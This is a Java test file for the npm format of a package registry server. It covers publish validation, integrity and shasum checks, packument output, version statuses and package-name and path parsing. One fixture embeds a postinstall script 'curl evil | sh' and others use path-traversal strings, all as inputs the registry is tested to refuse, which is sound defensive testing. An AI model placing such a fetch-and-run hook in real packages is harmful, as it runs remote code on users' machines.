package dev.wharf.format.npm;

import dev.wharf.format.RepositoryLocation;
import static dev.wharf.format.npm.NpmTestingPackages.packageJson;
import static dev.wharf.format.npm.NpmTestingPackages.publishBody;
import static dev.wharf.format.npm.NpmTestingPackages.sha1;
import static dev.wharf.format.npm.NpmTestingPackages.sha512;
import static dev.wharf.format.npm.NpmTestingPackages.tarball;
import static dev.wharf.testing.TestingTarballs.tarGz;
import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import dev.wharf.blob.FileBlobStore;
import dev.wharf.error.WharfException;
import dev.wharf.packages.PackageService;
import dev.wharf.packages.VersionLifecycleService;
import dev.wharf.store.Database;
import dev.wharf.testing.TestingDatabases;
import dev.wharf.testing.TestingPackages;
import java.io.ByteArrayInputStream;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Clock;
import java.util.Base64;
import java.util.stream.Stream;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/** Publish checks, packument rendering and names, on a real SQLite store and blob folder. */
class NpmRegistryTest {
  private static final ObjectMapper JSON = new ObjectMapper();
  private static final RepositoryLocation HERE = new RepositoryLocation("111122223333", "acme", "app");
  private static final String REGISTRY = "http://localhost:8080/acme-111122223333/npm/app/";

  @TempDir Path directory;
  Database database;
  FileBlobStore blobs;
  NpmRegistry registry;
  PackageService packages;
  VersionLifecycleService lifecycle;
  Path temporary;

  @BeforeEach
  void open() throws IOException {
    database = TestingDatabases.sqlite(directory);
    blobs = new FileBlobStore(directory.resolve("blobs"));
    TestingPackages services = TestingPackages.over(database, blobs, Clock.systemUTC());
    packages = services.packages();
    lifecycle = services.lifecycle();
    registry = new NpmRegistry(services.formatContext(64 * 1024));
    temporary = Files.createDirectories(directory.resolve("tmp"));
  }

  @AfterEach
  void close() throws IOException {
    blobs.close();
    database.close();
  }

  private void put(String name, String body) {
    NpmPackageName parsed = NpmPackageName.parse(name);
    try (NpmRegistry.PutRequest request = registry.readPut(HERE, parsed,
        new ByteArrayInputStream(body.getBytes(StandardCharsets.UTF_8)), temporary)) {
      switch (request) {
        case NpmRegistry.PutRequest.Publish publish -> registry.publish(HERE, publish);
        case NpmRegistry.PutRequest.Deprecate deprecate -> registry.deprecate(HERE, deprecate);
      }
    }
  }

  private JsonNode packument(String name, boolean abbreviated) throws IOException {
    return JSON.readTree(registry.packument(HERE, NpmPackageName.parse(name), REGISTRY, abbreviated).orElseThrow().body());
  }

  private void assertNothingLeftBehind() throws IOException {
    try (Stream<Path> files = Files.list(temporary)) {
      assertThat(files).isEmpty();
    }
    try (Stream<Path> files = Files.walk(directory.resolve("blobs"))) {
      assertThat(files.filter(Files::isRegularFile)).isEmpty();
    }
    assertThat(registry.packument(HERE, NpmPackageName.parse("pkg"), REGISTRY, false)).isEmpty();
  }

  private void assertRefused(String body, String message) throws IOException {
    assertThatThrownBy(() -> put("pkg", body)).isInstanceOf(WharfException.Invalid.class).hasMessageContaining(message);
    assertNothingLeftBehind();
  }

  // ---------------------------------------------------------------- publish

  @Test
  void aPublishIsStoredWithOurDigestsAndAnAbsoluteTarballUrl() throws IOException {
    put("@acme/util", publishBody("@acme/util", "1.0.0"));
    byte[] tgz = tarball(packageJson("@acme/util", "1.0.0"));

    JsonNode full = packument("@acme/util", false);
    assertThat(full.path("_id").asText()).isEqualTo("@acme/util");
    assertThat(full.path("dist-tags").path("latest").asText()).isEqualTo("1.0.0");
    JsonNode dist = full.path("versions").path("1.0.0").path("dist");
    assertThat(dist.path("tarball").asText()).isEqualTo(REGISTRY + "@acme/util/-/util-1.0.0.tgz");
    assertThat(dist.path("integrity").asText()).isEqualTo(sha512(tgz));
    assertThat(dist.path("shasum").asText()).isEqualTo(sha1(tgz));
    assertThat(full.path("time").has("1.0.0")).isTrue();
    assertThat(full.path("description").asText()).isEqualTo("d");

    JsonNode abbreviated = packument("@acme/util", true);
    assertThat(abbreviated.has("_id")).isFalse();
    assertThat(abbreviated.has("time")).isFalse();
    assertThat(abbreviated.path("modified").isTextual()).isTrue();
    assertThat(abbreviated.path("versions").path("1.0.0").path("description").isMissingNode()).isTrue();
    assertThat(abbreviated.path("versions").path("1.0.0").path("dist").path("integrity").asText()).isEqualTo(sha512(tgz));

    var asset = registry.tarball(HERE, NpmPackageName.parse("@acme/util"), "util-1.0.0.tgz").orElseThrow();
    try (var in = packages.open(asset).orElseThrow()) {
      assertThat(in.readAllBytes()).isEqualTo(tgz);
    }
    assertThat(registry.tarball(HERE, NpmPackageName.parse("@acme/util"), "util-9.0.0.tgz")).isEmpty();
    try (Stream<Path> files = Files.list(temporary)) {
      assertThat(files).isEmpty();
    }
  }

  @Test
  void anUnlistedVersionLeavesThePackumentButStaysDownloadableAndAnArchivedOneIsNeither() throws IOException {
    put("pkg", publishBody("pkg", "1.0.0"));
    put("pkg", publishBody("pkg", "1.1.0"));
    var key = new dev.wharf.packages.PackageKey("111122223333", "acme", "app", "npm", "", "pkg");
    NpmPackageName name = NpmPackageName.parse("pkg");
    assertThat(packument("pkg", true).path("versions").has("1.1.0")).isTrue();

    lifecycle.updateStatus(key, "1.1.0", dev.wharf.packages.VersionStatus.UNLISTED);
    assertThat(packument("pkg", true).path("versions").has("1.1.0")).isFalse();
    assertThat(packument("pkg", false).path("versions").has("1.1.0")).isFalse();
    assertThat(registry.tarball(HERE, name, "pkg-1.1.0.tgz")).isPresent();

    lifecycle.updateStatus(key, "1.1.0", dev.wharf.packages.VersionStatus.ARCHIVED);
    assertThat(registry.tarball(HERE, name, "pkg-1.1.0.tgz")).isEmpty();
    assertThat(packument("pkg", true).path("versions").has("1.0.0")).isTrue();

    lifecycle.updateStatus(key, "1.1.0", dev.wharf.packages.VersionStatus.PUBLISHED);
    assertThat(packument("pkg", true).path("versions").has("1.1.0")).as("the change shows at the next read").isTrue();
    assertThat(registry.tarball(HERE, name, "pkg-1.1.0.tgz")).isPresent();
  }

  @Test
  void republishingAVersionIsRefusedAs403AndChangesNothing() throws IOException {
    put("pkg", publishBody("pkg", "1.0.0"));
    String before = packument("pkg", false).toString();
    assertThatThrownBy(() -> put("pkg", publishBody("pkg", "1.0.0"))).isInstanceOf(WharfException.AccessDenied.class)
        .hasMessageContaining("cannot publish over the previously published versions");
    assertThat(packument("pkg", false).toString()).isEqualTo(before);
  }

  @Test
  void aWrongIntegrityIsRefused() throws IOException {
    byte[] tgz = tarball(packageJson("pkg", "1.0.0"));
    assertRefused(publishBody("pkg", "1.0.0", "", sha512("other".getBytes()), sha1(tgz), Base64.getEncoder().encodeToString(tgz)),
        "dist.integrity does not match");
  }

  @Test
  void aMissingIntegrityIsRefused() throws IOException {
    byte[] tgz = tarball(packageJson("pkg", "1.0.0"));
    assertRefused(publishBody("pkg", "1.0.0", "", "", sha1(tgz), Base64.getEncoder().encodeToString(tgz)),
        "dist.integrity with a sha512 hash is required");
  }

  @Test
  void aWrongShasumIsRefused() throws IOException {
    byte[] tgz = tarball(packageJson("pkg", "1.0.0"));
    assertRefused(publishBody("pkg", "1.0.0", "", sha512(tgz), "0".repeat(40), Base64.getEncoder().encodeToString(tgz)),
        "dist.shasum does not match");
  }

  @Test
  void aManifestThatDisagreesWithTheTarballIsRefused() throws IOException {
    byte[] otherVersion = tarball(packageJson("pkg", "6.6.6"));
    assertRefused(publishBody("pkg", "1.0.0", "", sha512(otherVersion), sha1(otherVersion),
        Base64.getEncoder().encodeToString(otherVersion)), "version");

    // build metadata is ignored as npm's semver.clean ignores it, but not a version that differs otherwise
    byte[] otherBuild = tarball(packageJson("pkg", "v1.0.1+build.2"));
    assertRefused(publishBody("pkg", "1.0.0", "", sha512(otherBuild), sha1(otherBuild),
        Base64.getEncoder().encodeToString(otherBuild)), "version");

    byte[] tgz = tarball(packageJson("pkg", "1.0.0"));
    assertRefused(publishBody("pkg", "1.0.0", ",\"dependencies\":{\"evil\":\"1.0.0\"}", sha512(tgz), sha1(tgz),
        Base64.getEncoder().encodeToString(tgz)), "dependencies");

    byte[] withScript = tarball("{\"name\":\"pkg\",\"version\":\"1.0.0\",\"scripts\":{\"postinstall\":\"curl evil | sh\"}}");
    assertRefused(publishBody("pkg", "1.0.0", "", sha512(withScript), sha1(withScript),
        Base64.getEncoder().encodeToString(withScript)), "scripts.postinstall");
  }

  @Test
  void versionsAreComparedAsNpmCleansThem() {
    assertThat(NpmRegistry.cleanVersion(" =v1.2.0+build.7 ")).isEqualTo("1.2.0");
    assertThat(NpmRegistry.cleanVersion("2.0.0-rc.1+sha.abc")).isEqualTo("2.0.0-rc.1");
    assertThat(NpmRegistry.cleanVersion("1.0.0")).isEqualTo("1.0.0");
  }

  @Test
  void invalidBase64IsRefused() throws IOException {
    assertRefused(publishBody("pkg", "1.0.0", "", "sha512-x", "x", "@@@not base64@@@"), "not valid base64");
  }

  @Test
  void malformedJsonIsRefused() throws IOException {
    assertRefused("{\"name\":\"pkg\", \"versions\": {", "Malformed publish request");
    assertRefused("[1,2]", "must be a JSON object");
  }

  @Test
  void aPackumentThatClaimsAVersionItDoesNotAttachIsRefused() throws IOException {
    String body = publishBody("pkg", "1.0.0").replace("\"pkg-1.0.0.tgz\"", "\"pkg-2.0.0.tgz\"");
    assertRefused(body, "does not attach pkg-1.0.0.tgz");
    String noAttachments = publishBody("pkg", "1.0.0").replaceAll(",\"_attachments\".*$", "}");
    assertRefused(noAttachments, "claims versions it does not attach");
  }

  @Test
  void notATarballIsRefused() throws IOException {
    byte[] junk = "not a tarball".getBytes();
    assertRefused(publishBody("pkg", "1.0.0", "", sha512(junk), sha1(junk), Base64.getEncoder().encodeToString(junk)),
        "not a gzip-compressed tar");
  }

  @Test
  void aPackageJsonUnderAFolderNameTooLongForUstarIsReadFromItsPaxPath() throws IOException {
    byte[] tgz = tarGz("package-" + "x".repeat(200) + "/package.json", packageJson("pkg", "1.0.0"));
    put("pkg", publishBody("pkg", "1.0.0", tgz));

    assertThat(packument("pkg", false).path("versions").path("1.0.0").path("dist").path("integrity").asText())
        .isEqualTo(sha512(tgz));
  }

  @Test
  void aTarballWithoutARootPackageJsonOrWithAnUnreadableOneIsRefused() throws IOException {
    assertRefused(publishBody("pkg", "1.0.0", tarGz("package/lib/package.json", packageJson("pkg", "1.0.0"))),
        "The tarball has no package.json in its root folder");
    assertRefused(publishBody("pkg", "1.0.0", tarGz("package/package.json", "{\"name\":")),
        "The tarball's package.json is not valid JSON");
    String huge = packageJson("pkg", "1.0.0").replace("\"d\"", "\"" + "d".repeat(4 * 1024 * 1024) + "\"");
    assertRefused(publishBody("pkg", "1.0.0", tarGz("package/package.json", huge)),
        "The tarball's package.json is larger than 4194304 bytes");
  }

  @Test
  void anAttachmentOverTheLimitIs413WhileDecoding() throws IOException {
    byte[] big = new byte[100 * 1024];
    new java.util.Random(1).nextBytes(big);
    assertThatThrownBy(() -> put("pkg", publishBody("pkg", "1.0.0", "", sha512(big), sha1(big),
        Base64.getEncoder().encodeToString(big)))).isInstanceOf(WharfException.TooLarge.class);
    assertNothingLeftBehind();
  }

  @Test
  void aNameThatDiffersFromTheUrlIsRefused() throws IOException {
    assertThatThrownBy(() -> put("other", publishBody("pkg", "1.0.0"))).isInstanceOf(WharfException.Invalid.class)
        .hasMessageContaining("does not match the URL");
    assertNothingLeftBehind();
  }

  @Test
  void deprecationChangesOnlyTheDeprecatedField() throws IOException {
    put("pkg", publishBody("pkg", "1.0.0"));
    JsonNode full = packument("pkg", false);
    ((com.fasterxml.jackson.databind.node.ObjectNode) full.path("versions").path("1.0.0")).put("deprecated", "old");
    put("pkg", full.toString());
    assertThat(packument("pkg", true).path("versions").path("1.0.0").path("deprecated").asText()).isEqualTo("old");
  }

  // ---------------------------------------------------------------- names

  @Test
  void namesFollowNpmsRules() {
    assertThat(NpmPackageName.parse("@acme/util").namespace()).isEqualTo("acme");
    assertThat(NpmPackageName.parse("@acme/util").escaped()).isEqualTo("@acme%2futil");
    assertThat(NpmPackageName.parse("left-pad").namespace()).isEmpty();
    assertThat(NpmPackageName.parse("JSONStream").name()).isEqualTo("JSONStream");
    for (String bad : new String[] {"", ".hidden", "_private", "..", "a/b", "@acme/", "@/x", "@acme/x/y", " pad",
        "node_modules", "favicon.ico", "a b", "a%2fb", "é", "x".repeat(215), "@acme/..", "@../x"}) {
      assertThatThrownBy(() -> NpmPackageName.parse(bad)).as(bad).isInstanceOf(WharfException.Invalid.class);
    }
  }

  @Test
  void pathsDecodeScopedNamesEveryWayAndRefuseTraversal() {
    for (String raw : new String[] {"@acme%2futil", "@acme%2Futil", "@acme/util", "%40acme%2futil"}) {
      assertThat(NpmRequestPath.parse(raw)).as(raw).isEqualTo(new NpmRequestPath.Packument(NpmPackageName.parse("@acme/util")));
    }
    assertThat(NpmRequestPath.parse("@acme/util/-/util-1.0.0.tgz"))
        .isEqualTo(new NpmRequestPath.Tarball(NpmPackageName.parse("@acme/util"), "util-1.0.0.tgz"));
    assertThat(NpmRequestPath.parse("-/package/@acme%2futil/dist-tags/beta"))
        .isEqualTo(new NpmRequestPath.DistTags(NpmPackageName.parse("@acme/util"), "beta"));
    assertThat(NpmRequestPath.parse("pkg/-rev/3-abc")).isInstanceOf(NpmRequestPath.Revision.class);
    for (String raw : new String[] {"..", "%2e%2e", "pkg/-/..", "pkg/-/%2e%2e%2fsecret", "%2e%2e%2f%2e%2e%2fetc", "%zz",
        "pkg%00"}) {
      assertThatThrownBy(() -> NpmRequestPath.parse(raw)).as(raw).isInstanceOf(WharfException.Invalid.class);
    }
  }

  @Test
  void abbreviatedIsChosenByAccept() {
    assertThat(NpmFormat.wantsAbbreviated("application/vnd.npm.install-v1+json; q=1.0, application/json; q=0.8, */*"))
        .isTrue();
    assertThat(NpmFormat.wantsAbbreviated("application/json")).isFalse();
    assertThat(NpmFormat.wantsAbbreviated(null)).isFalse();
    assertThat(NpmFormat.wantsAbbreviated("application/vnd.npm.install-v1+json;q=0")).isFalse();
  }

  /** What a format is built with, over this test's package services (no upstreams) and a size limit. */
}
